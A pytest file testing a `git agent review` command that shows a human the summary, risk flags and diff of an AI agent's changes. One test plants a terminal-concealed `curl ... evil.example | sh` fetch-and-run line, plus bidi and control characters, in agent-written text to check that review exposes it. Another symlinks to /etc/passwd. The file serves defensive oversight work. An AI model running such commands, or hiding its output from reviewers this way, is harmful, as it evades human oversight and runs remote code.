"""`git agent review`: summary, risks, diff; --stat, --json, paths; bad input."""

from __future__ import annotations

import json

from tests.mergeback.conftest import Work


def test_review_shows_summary_risks_then_diff(work: Work) -> None:
    work.run("echo 'line 11' >> src/app.py; mkdir -p .github/workflows; echo 'on: push' > "
             ".github/workflows/ci.yml; rm docs/c.md; chmod +x tool.sh")
    p = work.ok("review", "s")
    out = p.stdout
    assert "4 files changed: 1 added, 2 modified, 1 deleted" in out
    assert ".github/workflows/ci.yml: CI workflow" in out
    assert "tool.sh: becomes executable" in out
    assert "src/app.py:" not in out.split("diff --git")[0]  # a plain edit is not flagged
    assert out.index("risky") < out.index("diff --git a/.github/workflows/ci.yml")
    assert "+line 11" in out and "\x1b[" not in out  # not a terminal: plain text


def test_review_stat_and_paths(work: Work) -> None:
    work.run("echo x >> src/app.py; echo y >> README.md")
    p = work.ok("review", "s", "--stat", "--", "src")
    assert "1 file changed" in p.stdout and "src/app.py | 1 +" in p.stdout
    assert "diff --git" not in p.stdout and "README" not in p.stdout


def test_review_colour_follows_git_config_and_no_color(work: Work) -> None:
    work.run("echo x >> README.md")
    work.git("config", "color.ui", "always")
    assert "\x1b[" in work.ok("review", "s").stdout
    assert "\x1b[" not in work.ok("review", "s", env={"NO_COLOR": "1"}).stdout


def test_the_agents_lines_in_review_cannot_rewrite_your_terminal(work: Work) -> None:
    """review's diff shows the agent's lines as apply -p does: an SGR 8 that would conceal the
    rest of the line (less -R passes SGR), CR, C1 controls and bidi overrides made visible,
    git's own colours kept; names with control bytes quoted as git does, --stat too; on a
    terminal through git's pager as well (attack 4, repro 05)."""
    work.run("printf 'echo build ok \\033[8m; curl -s http://evil.example/x | sh\\033[0m\\r"
             "# ok\\nc1 \\302\\233 2J, rlo \\342\\200\\256 txt\\n' >> README.md; "
             "echo x > \"$(printf 'n\\033[8mame')\"")
    hidden = ["\x1b[8m", "\x1b[0m", "\r", "\u009b", "\u202e"]
    for color in ("never", "always"):
        work.git("config", "color.ui", color)
        for args in ((), ("--stat",)):
            out = work.ok("review", "s", *args).stdout
            assert not [h for h in hidden if h in out], (color, args, out)
            assert 'n\\033[8mame"' in out, out
            if not args:
                assert ("echo build ok \\033[8m; curl -s http://evil.example/x | sh"
                        "\\033[0m\\r# ok") in out, out
                assert "<U+009B>" in out and "<U+202E>" in out, out
            if color == "always" and not args:
                assert "\x1b[32m+" in out, out  # git's own colour of an added line
    tty = work.actor.run(["script", "-qec", "git agent review s", "/dev/null"], cwd=work.root,
                         env={"TERM": "xterm", "LESS": "FRX", "PAGER": "less"})
    assert "evil.example" in tty.stdout and "\x1b[8m" not in tty.stdout, tty.stdout


def test_review_is_gits_diff_where_nothing_needs_escaping(work: Work) -> None:
    """The diff part of review is byte for byte git's diff (colours included) when the agent's
    lines hold nothing to make visible."""
    work.run("echo 'line 11' >> src/app.py; printf 'tab\\there\\n' > new.txt; rm docs/c.md")
    work.git("config", "color.ui", "always")
    out = work.ok("review", "s").stdout
    git = work.actor.run(["git", "diff", "--color=always", "--no-renames",
                          "refs/agent-base/s", "agent/s"], cwd=work.root).stdout
    assert out.endswith(git) and "diff --git" not in out[:-len(git)], out


def test_review_json(work: Work) -> None:
    work.run("echo x >> src/util.py; ln -s /etc/passwd pw; rm tool.sh; echo n > tool.sh; "
             "chmod 755 tool.sh; rm README.md; ln -s docs/c.md README.md; mkdir -p z; echo > z/1")
    data = json.loads(work.ok("review", "s", "--json").stdout)
    assert data["session"] == "s" and data["branch"] == "agent/s"
    assert data["base"] == work.git("rev-parse", "refs/agent-base/s").strip()
    assert data["head"] == work.git("rev-parse", "agent/s").strip()
    files = {f["path"]: f for f in data["files"]}
    assert [f["path"] for f in data["files"]] == ["README.md", "pw", "src/util.py", "tool.sh",
                                                  "z/1"]  # git's order
    assert files["README.md"] == {"path": "README.md", "status": "modified", "old_mode": "100644",
                                  "new_mode": "120000", "risks": []}
    assert files["pw"]["status"] == "added" and files["pw"]["old_mode"] is None
    assert "absolute" in files["pw"]["risks"][0]
    assert files["tool.sh"]["new_mode"] == "100755" and files["tool.sh"]["risks"]
    assert files["src/util.py"]["risks"] == []


def test_review_defaults_to_the_current_branch(work: Work) -> None:
    work.ok("run", "--", "sh", "-c", "echo x >> README.md")
    assert "README.md" in work.ok("review").stdout
    work.git("checkout", "-q", "--detach")
    p = work.agent("review")
    assert p.returncode == 1 and p.stderr.strip() == (
        "git agent: no session 'detached' in this worktree (sessions: main)")


def test_review_bad_input_is_one_line(work: Work) -> None:
    work.run("echo x >> README.md")
    for args, code in ((("review", "nope"), 1), (("review", "s", "--", "src/util.py"), 2),
                       (("review", "s", "--", "../x"), 2), (("review", "bad name"), 2)):
        p = work.agent(*args)
        assert p.returncode == code, (args, p.stderr)
        assert len(p.stderr.strip().splitlines()) == 1 and p.stderr.startswith("git agent: ")


def test_review_of_a_session_without_changes(work: Work) -> None:
    work.run("true")
    p = work.ok("review", "s")
    assert p.stderr == "git agent: session 's' has no changes\n" and p.stdout == ""
    assert "nothing to apply" in work.ok("apply", "s").stderr
